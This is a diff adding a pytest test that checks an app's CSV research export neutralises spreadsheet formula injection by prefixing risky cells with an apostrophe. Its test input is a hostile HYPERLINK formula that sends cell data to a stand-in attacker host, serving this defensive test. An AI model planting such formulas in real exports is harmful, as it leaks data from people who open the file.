@@ -1,7 +1,9 @@
 """Research exports: only research-consented stories, no private field, every export recorded, and withdrawal
 notices to everyone who exported a story."""
 
+import csv
 import datetime
+import io
 import json
 
 import pytest
@@ -13,6 +15,7 @@ from moderation.erasure import erase_story
 from moderation.models import ConsentRecord
 from research.exports import FIELDS, create_export
 from research.models import ResearchExport, ResearchExportItem
+from stories.models import Theme
 from tests.factories import ConsentRecordFactory
 from tests.moderators import make_user, sign_in
 from tests.public_site import build_site
@@ -156,3 +159,23 @@ def test_withdrawing_an_exported_story_notifies_its_exporters(stories, researche
 
     _, later = create_export(researcher, ResearchExport.Format.JSON)
     assert story_id not in {row["story_id"] for row in json.loads(later)["stories"]}
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(start, researcher):
+    """A cell starting with = + - @ (or a tab or carriage return before one) is a formula to a spreadsheet: it is
+    written with a leading apostrophe, so it opens as the words the contributor wrote."""
+    index = build_site()
+    formula = f'{start}HYPERLINK("http://attacker.example/?"&A1,"Read more")'
+    story, _ = consented_story(index, formula)
+    theme = Theme.objects.create(name=f"{start}1+1")
+    story.themes.add(theme)
+    story.save()  # a page's many-to-many relations are written when it is saved
+
+    _, content = create_export(researcher, ResearchExport.Format.CSV)
+    (row,) = csv.DictReader(io.StringIO(content, newline=""))
+    assert row["text"] == "'" + formula
+    assert row["curated_themes"] == f"'{start}1+1"
+    assert row["story_id"] == str(story.pk)  # numbers and dates are left as they are
+    _, json_content = create_export(researcher, ResearchExport.Format.JSON)
+    assert json.loads(json_content)["stories"][0]["text"] == formula  # JSON is data, never run: kept exact
